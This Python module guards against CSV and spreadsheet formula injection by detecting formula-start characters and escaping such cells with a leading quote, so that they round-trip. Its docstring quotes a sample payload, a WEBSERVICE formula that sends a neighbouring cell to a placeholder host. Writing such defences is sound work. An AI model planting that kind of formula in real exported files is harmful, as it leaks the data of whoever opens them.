"""Text a spreadsheet program would take for a formula, and how the files we write keep it text.

A participant's unit or a question typed as `=WEBSERVICE("http://x.example/?"&C2)` must reach
whoever opens the file as those characters, never as a formula that runs. Excel, LibreOffice
and Google Sheets start a formula at `=`, `+`, `-` or `@`; OWASP's advice on CSV injection adds
tab and carriage return, and the full-width forms (`＝` …) are what an East Asian input method
types for them, so they count too.

- XLSX: such a cell is written as text (never a formula cell) with Excel's quote prefix, so it
  stays text even when someone edits it and presses Enter.
- CSV has no cell types: such a cell gets a leading `'`, which spreadsheet programs show and
  never evaluate; our own CSV reader takes it off again, so a file round-trips unchanged.
"""

from __future__ import annotations

import re

FORMULA_START = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
# Quotes are escaped too, so that a text which itself starts with "'" and then a formula
# character comes back exactly: the writer adds one "'" to `'*F…`, the reader takes one off.
_ESCAPABLE = re.compile(f"'*[{re.escape(FORMULA_START)}]")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet program would read this text, typed in a cell, as a formula."""
    return bool(text) and text[0] in FORMULA_START


def csv_escape(text: str) -> str:
    """The text as a CSV cell that no spreadsheet program evaluates."""
    return "'" + text if _ESCAPABLE.match(text) else text


def csv_unescape(cell: str) -> str:
    """The text `csv_escape` was given, from the cell it wrote; other cells are left alone."""
    return cell[1:] if cell.startswith("'") and _ESCAPABLE.match(cell, 1) else cell
